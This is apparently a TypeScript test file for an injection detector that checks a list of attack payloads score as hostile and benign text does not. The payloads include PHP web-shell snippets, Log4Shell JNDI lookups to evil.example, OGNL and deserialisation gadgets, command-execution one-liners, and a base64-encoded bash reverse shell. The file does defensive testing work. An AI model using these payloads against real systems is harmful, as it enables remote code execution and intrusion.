// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are payloads, not templates
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { createJudge } from '../judge/judge.ts';
import type { Channel } from '../judge/types.ts';
import { ALL_RULES } from './all.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  PHP: [
    '<?php system($_GET["c"]); ?>',
    '<?=`id`?>',
    '[php]echo 1;[/php]',
    '${@print(md5(1))}',
    'eval(base64_decode("cGhwaW5mbygpOw=="))',
    'call_user_func("system","id")',
    '("sys"."tem")("id")',
    '(system)("id")',
    '$_="sys"."tem";$_("id")',
    '$GLOBALS["x"]',
    "preg_replace('/a/e','phpinfo()','a')",
    'auto_prepend_file=php://input',
    'phar://upload/a.jpg',
    'expect://id',
    "assert(\"strpos('a','b') or die(1)\")",
  ],
  Java: [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
    '${${env:X:-j}ndi:dns://evil.example}',
    '$&#123;jndi:ldap://evil.example/a}',
    'java.lang.Runtime',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "(#_memberAccess['allowStaticMethodAccess']=true)",
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
    'redirect:${#context["xwork.MethodAccessor.denyMethodExecution"]}',
    'T(java.lang.Runtime).getRuntime().exec("id")',
    'org.apache.commons.collections.functors.InvokerTransformer',
    'com.sun.rowset.JdbcRowSetImpl',
  ],
  'Node, Python, Ruby and Perl': [
    "require('child_process').exec('id')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')",
    '{"rce":"_$$ND_FUNC$$_function(){}()"}',
    '__proto__[isAdmin]',
    'constructor[prototype][isAdmin]',
    'constructor.prototype.isAdmin',
    'while(1){}',
    '$1:__proto__:then',
    "__import__('os').system('id')",
    "os.popen('id').read()",
    "subprocess.check_output(['id'])",
    'IO.popen("id").read',
    '%x(id)',
    '@{[system "id"]}',
  ],
  'serialised objects': [
    'O:8:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";i:1;}'.replace('O:8', 'O:32'),
    'a:1:{i:0;O:3:"Foo":0:{}}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    'aced0005737200116a6176612e7574696c',
    'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU',
    'AAEAAAD/////AQAAAAAAAAAMAgAAAF',
    'cos\nsystem\n(S"id"\ntR.',
    '!!python/object/apply:os.system ["id"]',
    '--- !ruby/object:Gem::Installer',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
    'System.Windows.Data.ObjectDataProvider, PresentationFramework',
  ],
  base64: [
    base64('x<script>alert(1)</script>'),
    base64('require("child_process").exec("id")'),
    base64('a=eval($_POST["x"]);'),
    base64('bash -i >& /dev/tcp/10.0.0.1/80 0>&1'),
    base64('new ProcessBuilder("id").start()'),
  ],
};

const HONEST: readonly string[] = [
  'Heating system (old), file (1), mail (work)',
  'phpinfo() says 8.3; the old server had 7.4 and system() disabled.',
  "What's $_GET['id'] in the old code for? It's never used.",
  'java.lang.NullPointerException: Cannot invoke "Meter.id()" because "meter" is null\n\tat org.example.Reader.read(Reader.java:42)',
  'Runtime.getRuntime().exec is flagged by our scanner; it is in the legacy importer.',
  'The PHP page shows "<?php echo $title; ?>" as text; is PHP off?',
  'extract(year from ts) eq 2024',
  "substring(name,1,3) eq 'abc'",
  'for (const r of readings) total += r.kwh;',
  'index.php manual.pdf',
  "import { readFile } from 'node:fs/promises';",
  'Cost: $12.50/month * 12 = $150.00/yr',
  base64("reading 12: it's 444 kWh; ok? <12>"),
  'eyJhbGciOiJFZERTQSIsInR5cCI6ImF0K2p3dCJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl',
  'a:1, o:2, c:3',
];

const judge = createJudge({ rules: ALL_RULES });
after(() => judge.dispose());
const scoreOf = (text: string, channel: Channel = 'value'): number => judge.judge(text, channel)?.score ?? 0;
const said = (text: string): string => JSON.stringify(judge.judge(text, 'value')?.hits);

for (const [kind, payloads] of Object.entries(ATTACKS)) {
  test(`injected code is seen: ${kind}`, () => {
    // Attack: code or an object that the server would run or bring to life.
    for (const payload of payloads) assert.ok(scoreOf(payload) >= 5, `${payload} ${said(payload)}`);
  });
}

test('a look-up of a logger is seen in a user agent', () => {
  // Attack: what servers log is read by the logger, and user agents are logged everywhere.
  assert.ok(scoreOf('Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/a}', 'user-agent') >= 5);
});

test('a header that names a file that a server would run is seen, and an honest name passes', () => {
  // Attack: an upload whose name comes in a header.
  assert.ok(scoreOf('shell.phtml', 'header') >= 5);
  assert.ok(scoreOf('report.pdf', 'header') < 5);
});

test('talk about code, tokens and names of classes in a stack trace pass', () => {
  for (const text of HONEST) assert.ok(scoreOf(text) < 5, `${text} ${said(text)}`);
});
